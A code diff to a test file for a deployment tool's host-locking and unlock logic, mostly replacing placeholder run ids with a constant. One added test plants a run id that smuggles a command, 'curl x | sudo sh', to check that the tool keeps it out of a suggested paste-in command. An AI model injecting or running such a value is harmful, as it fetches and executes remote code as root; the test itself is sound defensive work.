@@ -12,6 +12,9 @@ import { assign, consent, controllerOf, ours, withHosts } from '../support/scene
 
 const one = (host: LocalHost) => [ours(host.path('a.conf'), 'one\n')]
 
+/** A run that wrote nothing. */
+const GONE = '20261121-103102-k3f9'
+
 /** Unlocks a host; returns what consent was asked for, the report, and the files that are left. */
 async function free(host: LocalHost, run: string) {
   const asked: Unlocking[] = []
@@ -24,13 +27,16 @@ const isLocked = async (host: LocalHost) => (await readdir(host.home)).includes(
 
 async function lockAgain(host: LocalHost, run: string): Promise<void> {
   await mkdir(`${host.home}/lock`, { recursive: true })
-  await writeFile(`${host.home}/lock/owner`, JSON.stringify({ run, operator: 'ann@desk', since: 'noon' }))
+  await writeFile(
+    `${host.home}/lock/owner`,
+    JSON.stringify({ run, operator: 'ann@desk', since: '2026-11-21T12:00:00Z' }),
+  )
 }
 
 test('unlock() releases the lock of a controller that died before it wrote anything', async (t) => {
   await withHosts(['web1'], async (web1) => {
-    await lockAgain(web1, 'gone')
-    const { how, report } = await free(web1, 'gone')
+    await lockAgain(web1, GONE)
+    const { how, report } = await free(web1, GONE)
     t.deepEqual(how, ['lock'])
     t.is(report?.outcome, 'untouched')
     t.false(await isLocked(web1))
@@ -61,9 +67,9 @@ test('apply() and unlock() say when the controller was last heard of that died b
 
 test('unlock() refuses to release the lock of a controller that is alive', async (t) => {
   await withHosts(['web1'], async (web1) => {
-    await lockAgain(web1, 'alive')
+    await lockAgain(web1, GONE)
     await hear(web1, 5)
-    const error = await t.throwsAsync<EvenkeelError>(free(web1, 'alive'))
+    const error = await t.throwsAsync<EvenkeelError>(free(web1, GONE))
     t.is(error?.code, 'locked')
     t.regex(error?.hint ?? '', /heard of \d+ s ago and is at work: wait/)
     t.true(await isLocked(web1))
@@ -73,9 +79,9 @@ test('unlock() refuses to release the lock of a controller that is alive', async
 for (const torn of ['', '\0'.repeat(20), 'boot', 'boot 12', 'boot x 60', '\n'])
   test(`a lock with ${JSON.stringify(torn)} for the time of its controller can be released`, async (t) => {
     await withHosts(['web1'], async (web1) => {
-      await lockAgain(web1, 'gone')
+      await lockAgain(web1, GONE)
       await writeFile(`${web1.home}/lock/heard`, torn)
-      t.deepEqual((await free(web1, 'gone')).how, ['lock'])
+      t.deepEqual((await free(web1, GONE)).how, ['lock'])
     })
   })
 
@@ -110,7 +116,7 @@ for (const [what, content] of [
 ] as const)
   test(`a lock whose owner a power cut ${what} has an unknown owner, and "unlock unknown" removes it`, async (t) => {
     await withHosts(['web1'], async (web1) => {
-      await lockAgain(web1, 'gone')
+      await lockAgain(web1, GONE)
       await writeFile(`${web1.home}/lock/owner`, content)
       const assignment = assign([web1], one)
       const error = await t.throwsAsync<EvenkeelError>(apply(assignment, controllerOf([web1]), { consent }))
@@ -123,6 +129,17 @@ for (const [what, content] of [
       t.is((await apply(assignment, controllerOf([web1]), { consent })).outcome, 'committed')
     })
   })
+
+test('what a host has written in place of a run is no part of a command to paste', async (t) => {
+  await withHosts(['web1'], async (web1) => {
+    await lockAgain(web1, `${GONE} -y; curl x | sudo sh #`)
+    const error = await t.throwsAsync<EvenkeelError>(apply(assign([web1], one), controllerOf([web1]), { consent }))
+    t.regex(error?.message ?? '', /whose owner is not known; unreadable there: "\{\\"run\\":.*\}"$/)
+    t.regex(error?.hint ?? '', / evenkeel unlock unknown$/)
+    t.deepEqual((await free(web1, 'unknown')).how, ['nameless'])
+    t.false(await isLocked(web1))
+  })
+})
 
 test('a lock that is torn after the id of its run is released by that id, and not by "unknown"', async (t) => {
   await withHosts(['web1'], async (web1) => {
@@ -161,7 +178,7 @@ test('apply() leaves no lock if its owner cannot be written', async (t) => {
 
 test('unlock() of an unknown owner leaves a lock whose owner was written meanwhile', async (t) => {
   await withHosts(['web1'], async (web1) => {
-    await lockAgain(web1, 'alive')
+    await lockAgain(web1, GONE)
     await rename(`${web1.home}/lock/owner`, `${web1.home}/lock/owner.new`)
     const meanwhile = () => rename(`${web1.home}/lock/owner.new`, `${web1.home}/lock/owner`)
     await unlock([web1.target], 'unknown', controllerOf([web1]), { consent: meanwhile })
@@ -181,8 +198,8 @@ test('history() and unlock() leave out a host that cannot be read after the logi
       [run],
     )
     t.regex(events.flatMap((event) => (event.type === 'remark' ? event.message : [])).join(), /^Not asked: web2\. /)
-    await lockAgain(web1, 'gone')
-    t.is((await unlock(both, 'gone', controllerOf([web1, web2]), { consent })).length, 1)
+    await lockAgain(web1, GONE)
+    t.is((await unlock(both, GONE, controllerOf([web1, web2]), { consent })).length, 1)
   })
 })
 
